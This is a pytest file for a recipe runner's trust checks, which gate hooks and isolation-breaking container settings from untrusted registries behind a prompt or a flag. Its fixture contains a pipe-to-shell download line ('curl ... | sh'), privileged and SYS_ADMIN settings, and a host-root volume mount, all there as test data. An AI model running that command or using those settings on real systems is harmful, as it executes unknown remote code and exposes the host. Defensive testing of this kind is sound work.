"""Untrusted recipes may not run hooks or break isolation without consent."""

from __future__ import annotations

from pathlib import Path

import pytest
from recipe_fakes import SIMPLE, recipe_from, write

from sparkrun.errors import ExitCode, TrustError
from sparkrun.recipes.lookup import Resolver
from sparkrun.recipes.model import Recipe
from sparkrun.recipes.registry import Registry, RegistryStore
from sparkrun.recipes.trust import check_trust, gated_items

RISKY = (
    SIMPLE
    + """\
pre_exec:
  - pip install something
  - {command: "curl -fsS http://x | sh", timeout: 30}
post_exec: ["echo done"]
post_commands: ["notify-send ready"]
mods: [mods/fix-a]
executor: docker
executor_config:
  privileged: true
  cap_add: [SYS_ADMIN]
  ipc: host
  shm_size: 32gb
  user: ""
cluster_config: {remote_cache_dir: /data}
volumes: ["/:/host"]
"""
)


def test_gated_items_list_exactly_what_would_run_or_break_isolation() -> None:
    items = gated_items(recipe_from(RISKY))
    assert [i.key for i in items] == [
        "pre_exec[0]",
        "pre_exec[1]",
        "post_exec[0]",
        "post_commands[0]",
        "mods[0]",
        "executor_config.privileged",
        "executor_config.cap_add",
        "executor_config.ipc",
        "cluster_config",
        "volumes",
    ]
    assert items[1].detail == "curl -fsS http://x | sh"


@pytest.mark.parametrize("model", ["/models/llama", "~/gguf/x.gguf"])
def test_host_path_models_are_gated(model: str) -> None:
    assert [i.key for i in gated_items(recipe_from(f"model: {model}\n"))] == ["model"]


def test_harmless_recipe_has_nothing_gated() -> None:
    assert gated_items(recipe_from(SIMPLE + "executor_config: {ipc: shareable, shm_size: 8g}\n")) == []


def _untrusted() -> Recipe:
    return recipe_from(RISKY, trusted=False, kind="registry", registry="community")


def _refuse(_text: str) -> bool:
    raise AssertionError("must not prompt")


def test_trusted_sources_and_trust_flag_pass_without_prompt() -> None:
    check_trust(recipe_from(RISKY), trust_flag=False, interactive=True, confirm=_refuse)
    check_trust(_untrusted(), trust_flag=True, interactive=False, confirm=_refuse)


def test_non_interactive_refusal_names_the_fix() -> None:
    with pytest.raises(TrustError) as caught:
        check_trust(_untrusted(), trust_flag=False, interactive=False, confirm=_refuse)
    assert caught.value.exit_code == ExitCode.REFUSED
    assert "10 gated item(s)" in caught.value.message
    assert caught.value.hint == "rerun with --trust, or trust the registry: sparkrun registry trust community"
    assert "pip install something" in (caught.value.detail or "")


def test_tty_asks_once_listing_everything() -> None:
    asked: list[str] = []

    def confirm(text: str) -> bool:
        asked.append(text)
        return True

    check_trust(_untrusted(), trust_flag=False, interactive=True, confirm=confirm)
    assert len(asked) == 1
    assert "pre_exec[0]: pip install something" in asked[0] and "volumes: /:/host" in asked[0]


def test_tty_no_refuses() -> None:
    with pytest.raises(TrustError, match="refused at the prompt"):
        check_trust(_untrusted(), trust_flag=False, interactive=True, confirm=lambda _t: False)


def test_include_chain_is_as_trusted_as_its_least_trusted_member(tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    reg = Registry(name="shady", url="file:///nowhere", recipes="recipes")
    store = RegistryStore([reg])
    write(reg.recipe_dir / "base.yaml", RISKY)
    (reg.clone_dir / ".git").mkdir(parents=True)
    local = write(tmp_path / "mine.yaml", "include: '@shady/base'\nmodel: me/mine\n")
    resolver = Resolver(cwd=tmp_path, store=store, use_bundled=False)
    recipe = resolver.load(str(local))
    assert recipe.source.kind == "file" and not recipe.source.trusted
    with pytest.raises(TrustError):
        check_trust(recipe, trust_flag=False, interactive=False, confirm=_refuse)
    assert not clone.exists()
